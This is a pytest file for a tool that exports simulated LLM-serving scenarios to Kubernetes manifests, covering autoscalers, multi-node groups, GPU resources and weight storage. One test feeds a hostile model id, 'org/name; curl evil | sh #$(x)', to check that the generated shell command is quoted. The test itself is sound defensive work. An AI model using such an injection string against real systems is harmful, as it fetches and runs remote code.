import copy
import shlex

import pytest
import yaml
from typer.testing import CliRunner

from simulator.catalog import load_gpus
from simulator.cluster.cold_start import chain
from simulator.command.app import app
from simulator.errors import ServelabError
from simulator.export.kubernetes.gpus import PRODUCTS
from simulator.export.kubernetes.manifests import manifests, to_yaml
from simulator.export.kubernetes.pods import MARGIN, PERIOD_S, start_s
from simulator.export.kubernetes.schemas import validate
from simulator.run.resolved import resolve_deployment
from simulator.scenario import Scenario


def scenario(**deployment):
    return Scenario.of(
        {
            "workload": {"source": "azure_conversation", "rate_rps": 1.0, "requests": 10},
            "deployments": [
                {
                    "name": "My chat",
                    "model": "llama-3.1-8b",
                    "gpu": "h100",
                    "engine": {"max_model_len": 8192},
                    "replicas": 3,
                    **deployment,
                }
            ],
        }
    )


def by_kind(made):
    return {m["kind"]: m for m in made}


def test_a_deployment():
    s = scenario(
        pod={
            "drain_s": 90,
            "engine_init_s": 40,
            "compile_s": 60,
            "container_s": 2,
            "readiness_s": 8,
            "weights_bytes": 1e10,
            "weights_bytes_per_s": 1e9,
        }
    )
    made = by_kind(manifests(s, weights_claim="weights"))
    assert set(made) == {"Deployment", "Service", "PodDisruptionBudget"}
    spec = made["Deployment"]["spec"]
    pod = spec["template"]["spec"]
    container = pod["containers"][0]
    assert spec["replicas"] == 3 and made["Deployment"]["metadata"]["name"] == "my-chat"
    assert container["image"] == "vllm/vllm-openai:v0.32.0" and container["args"][1:3] == ["--max-model-len", "8192"]
    assert container["resources"]["limits"] == {"nvidia.com/gpu": "1"} and pod["terminationGracePeriodSeconds"] == 90
    assert start_s(resolve_deployment(s, 0)) == 120.0
    assert container["startupProbe"]["failureThreshold"] * PERIOD_S == MARGIN * 120
    phases = dict(chain(s.deployments[0].pod, 1e10))
    assert phases["image_pull"] > 0  # the kubelet pulls before the probe begins
    assert (
        made["Service"]["spec"]["selector"]
        == made["PodDisruptionBudget"]["spec"]["selector"]["matchLabels"]
        == {"app": "my-chat"}
    )


def test_hpa_as_simulated():
    hpa = {
        "kind": "hpa",
        "min_replicas": 2,
        "max_replicas": 9,
        "tolerance": 0.05,
        "scale_down": {"stabilization_window_s": 120},
        "metrics": [
            {"metric": "queue_depth", "target_average_value": 0.5},
            {"metric": "token_rate", "external": True, "target_value": 5000},
        ],
    }
    made = by_kind(manifests(scenario(autoscaler=hpa)))
    spec = made["HorizontalPodAutoscaler"]["spec"]
    assert (spec["minReplicas"], spec["maxReplicas"]) == (2, 9)
    assert "replicas" not in made["Deployment"]["spec"]  # or applying it again would undo the autoscaler
    assert spec["metrics"][0]["pods"]["target"] == {"type": "AverageValue", "averageValue": "500m"}
    assert spec["metrics"][1]["external"]["target"] == {"type": "Value", "value": "5000"}
    assert (
        spec["behavior"]["scaleDown"]["stabilizationWindowSeconds"] == 120
        and spec["behavior"]["scaleUp"]["tolerance"] == "50m"
    )


def test_keda_as_simulated():
    keda = {
        "kind": "keda",
        "min_replicas": 1,
        "max_replicas": 5,
        "metric": "queue_depth",
        "threshold": 4,
        "cooldown_period_s": 200,
    }
    with pytest.raises(ServelabError, match="--prometheus"):
        manifests(scenario(autoscaler=keda))
    spec = by_kind(manifests(scenario(autoscaler=keda), prometheus="http://prometheus:9090"))["ScaledObject"]["spec"]
    assert (spec["minReplicaCount"], spec["maxReplicaCount"], spec["cooldownPeriod"]) == (1, 5, 200)
    assert spec["triggers"][0]["metadata"]["query"] == 'sum(vllm:num_requests_waiting{app="my-chat"})'
    with pytest.raises(ServelabError, match="'kpa' needs Knative"):
        manifests(scenario(autoscaler={"kind": "kpa", "max_replicas": 3, "target": 4}))


def test_a_pod_over_two_nodes_is_a_group():
    s = scenario(model="llama-3.1-405b", engine={"max_model_len": 8192, "tensor_parallel_size": 16}, replicas=2)
    made = by_kind(manifests(s, model_id="meta-llama/Llama-3.1-405B"))
    group = made["LeaderWorkerSet"]["spec"]
    assert group["replicas"] == 2 and group["leaderWorkerTemplate"]["size"] == 2
    worker, leader = (
        group["leaderWorkerTemplate"][k]["spec"]["containers"][0] for k in ("workerTemplate", "leaderTemplate")
    )
    assert worker["resources"]["limits"] == {"nvidia.com/gpu": "8"} and "readinessProbe" not in worker
    assert "--tensor-parallel-size 16" in leader["args"][0] and made["Service"]["spec"]["selector"]["role"] == "leader"


def test_schemas_find_faults():
    made = by_kind(
        manifests(
            scenario(autoscaler={"kind": "keda", "min_replicas": 1, "metric": "queue_depth", "threshold": 4}),
            prometheus="http://p",
        )
    )
    for kind, place, value, message in (
        ("Deployment", ("spec", "template", "spec", "containers"), "none", r"Deployment 'my-chat': spec\.template"),
        ("Deployment", ("spec", "replica"), 3, "replica"),
        ("Service", ("spec", "ports"), [{"port": "http"}], "Service 'my-chat'"),
        ("ScaledObject", ("spec", "maxReplicas"), 3, "ScaledObject 'my-chat': spec: .*maxReplicas"),
        ("ScaledObject", ("spec", "triggers"), [], "triggers"),
    ):
        broken = copy.deepcopy(made[kind])
        node = broken
        for key in place[:-1]:
            node = node[key]
        node[place[-1]] = value
        with pytest.raises(ServelabError, match=message):
            validate(broken)


def test_command(tmp_path):
    file = tmp_path / "s.yaml"
    file.write_text(scenario().to_yaml())
    run = lambda *a: CliRunner().invoke(app, ["export", "kubernetes", str(file), "--out", str(tmp_path / "k8s"), *a])
    told = run()
    assert told.exit_code == 0 and "Deployment, Service, PodDisruptionBudget, valid" in told.output
    text = (tmp_path / "k8s/my-chat.yaml").read_text()
    assert [m["kind"] for m in yaml.safe_load_all(text)] == [
        "Deployment",
        "Service",
        "PodDisruptionBudget",
    ] and "&id" not in text
    assert text.startswith("# Written by servelab") and to_yaml(manifests(Scenario.load(file))) in text
    assert "Secret hf-token" in text.split("apiVersion")[0]
    assert run().exit_code == 2 and run("--overwrite", "--weights-claim", "w").exit_code == 0
    assert "hf-token" not in (tmp_path / "k8s/my-chat.yaml").read_text()
    assert "vllm" in run("--overwrite", "--set", "deployments.0.serving.kind=triton").output


def test_names_that_kubernetes_cannot_tell_apart_are_refused(tmp_path):
    two = scenario().to_mapping()
    two["deployments"] = [{**two["deployments"][0], "name": n} for n in ("chat_a", "chat-a")]
    file, out = tmp_path / "s.yaml", tmp_path / "k8s"
    file.write_text(yaml.safe_dump(two))
    told = CliRunner().invoke(app, ["export", "kubernetes", str(file), "--out", str(out)])
    assert told.exit_code == 2 and "'chat_a' and 'chat-a' would both be 'chat-a'" in told.stderr
    assert not out.exists()


def group_of(model_id="org/name", **deployment):
    made = by_kind(manifests(scenario(**{"model": "qwen3-30b-a3b", **deployment}), model_id=model_id))
    spec = made["LeaderWorkerSet"]["spec"]
    command = spec["leaderWorkerTemplate"]["leaderTemplate"]["spec"]["containers"][0]["args"][0]
    return spec, command.split("; ", 1)[1]


def test_what_the_shell_of_a_leader_gets_is_quoted():
    hostile = "org/name; curl evil | sh #$(x)"
    _, command = group_of(hostile, engine={"tensor_parallel_size": 16}, across_nodes=True, model="llama-3.1-405b")
    words = shlex.split(command)
    assert words[:3] == ["vllm", "serve", hostile]
    assert words[words.index("--distributed-executor-backend") + 1] == "ray"


def test_ranks_over_two_nodes_are_spread_by_ray():
    spec, command = group_of(data_parallel_size=12)
    words = shlex.split(command)
    flags = dict(zip(words[3::2], words[4::2], strict=False))
    assert flags["--data-parallel-size"] == "12" and flags["--data-parallel-size-local"] == "6"
    assert flags["--data-parallel-backend"] == "ray" and "--distributed-executor-backend" not in words
    template = spec["leaderWorkerTemplate"]
    assert template["size"] == 2
    for part in ("leaderTemplate", "workerTemplate"):
        limits = template[part]["spec"]["containers"][0]["resources"]["limits"]
        assert limits == {"nvidia.com/gpu": "6"}
    with pytest.raises(ServelabError, match="data_parallel_size=9 .*2 nodes would not have as many ranks"):
        group_of(data_parallel_size=9)
    wide = {"engine": {"tensor_parallel_size": 16}, "across_nodes": True, "model": "llama-3.1-405b"}
    with pytest.raises(ServelabError, match="data_parallel_size=2 of 16 GPUs each: a node has 8"):
        group_of(data_parallel_size=2, **wide)


def test_a_group_leaves_its_replicas_to_the_autoscaler():
    metrics = [{"metric": "queue_depth", "target_average_value": 4}]
    spec, _ = group_of(data_parallel_size=16, autoscaler={"kind": "hpa", "max_replicas": 3, "metrics": metrics})
    assert "replicas" not in spec
    assert group_of(data_parallel_size=16)[0]["replicas"] == 3


@pytest.mark.parametrize(
    ("gpu", "resource", "image", "product"),
    [
        ("h100", "nvidia.com/gpu", "vllm/vllm-openai:", "NVIDIA-H100-80GB-HBM3"),
        ("h100:3g.40gb", "nvidia.com/mig-3g.40gb", "vllm/vllm-openai:", "NVIDIA-H100-80GB-HBM3"),
        ("mi300x", "amd.com/gpu", "vllm/vllm-openai-rocm:", None),
    ],
)
def test_gpus_have_the_names_of_their_device_plugins(gpu, resource, image, product):
    pod = by_kind(manifests(scenario(gpu=gpu)))["Deployment"]["spec"]["template"]["spec"]
    container = pod["containers"][0]
    assert container["resources"] == {"limits": {resource: "1"}, "requests": {resource: "1"}}
    assert container["image"].startswith(image)
    assert ("affinity" in pod) == (product is not None) and (product or "") in str(pod)


def test_products_are_of_the_catalog():
    assert set(PRODUCTS) <= set(load_gpus())


def pod_of(deployment, **options):
    return by_kind(manifests(scenario(**deployment), **options))["Deployment"]["spec"]["template"]["spec"]


def test_weights_of_a_claim_are_served_from_there():
    pod = pod_of({}, weights_claim="weights")
    (container,) = pod["containers"]
    name = "meta-llama/Llama-3.1-8B"
    assert container["args"][0] == f"/models/{name}"
    assert container["args"][container["args"].index("--served-model-name") + 1] == name
    assert {"name": "weights", "mountPath": "/models", "readOnly": True} in container["volumeMounts"]
    assert pod["volumes"][1]["persistentVolumeClaim"] == {"claimName": "weights", "readOnly": True}
    assert "env" not in container
    path = pod_of({}, weights_claim="weights", model_id="/models/own")["containers"][0]["args"]
    assert path[0] == "/models/own" and "--served-model-name" not in path
    with pytest.raises(ServelabError, match="--weights-claim 'My claim'"):
        pod_of({}, weights_claim="My claim")


def test_weights_without_a_claim_are_downloaded_in_the_time_of_the_probe():
    slow = {"pod": {"weights_bytes": 1e12, "weights_bytes_per_s": 1e8}}
    pod = pod_of(slow)
    (container,) = pod["containers"]
    cold_s = start_s(resolve_deployment(scenario(**slow), 0)) + 1e4
    assert container["startupProbe"]["failureThreshold"] * PERIOD_S >= MARGIN * cold_s
    secret = {"name": "hf-token", "key": "token", "optional": True}
    assert container["env"] == [
        {"name": "HF_HOME", "value": "/hub"},
        {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": secret}},
    ]
    assert container["volumeMounts"][1] == {"name": "weights", "mountPath": "/hub"}
    assert pod["volumes"][1] == {"name": "weights", "emptyDir": {}}


def test_weights_in_the_image_need_that_image():
    inside = {"pod": {"weights": "image"}}
    with pytest.raises(ServelabError, match=r"pod.weights='image': vLLM's own image has no weights.*--image"):
        pod_of(inside)
    with pytest.raises(ServelabError, match="nothing would read --weights-claim 'w'"):
        pod_of(inside, image="own:1", weights_claim="w")
    pod = pod_of(inside, image="own:1")
    assert len(pod["volumes"]) == 1 and "env" not in pod["containers"][0]


@pytest.mark.parametrize("bounds", [{}, {"min_replicas": 1, "idle_replica_count": 0}])
def test_keda_could_not_wake_from_zero(bounds):
    keda = {"kind": "keda", "metric": "queue_depth", "threshold": 4, **bounds}
    with pytest.raises(ServelabError, match=r"autoscaler\.\w+=0: .*'queue_depth'.*never wakes"):
        manifests(scenario(autoscaler=keda), prometheus="http://p")


def test_a_rollout_that_can_replace_no_pod_is_refused():
    for surge, unavailable in ((0, 0), (0.001, 0)):
        with pytest.raises(ServelabError, match=r"rollout.max_surge=.* and rollout.max_unavailable=0 "):
            pod_of({"rollout": {"at_s": 10, "max_surge": surge, "max_unavailable": unavailable}})
    pod_of({"rollout": {"at_s": 10, "max_surge": 0, "max_unavailable": 1}})
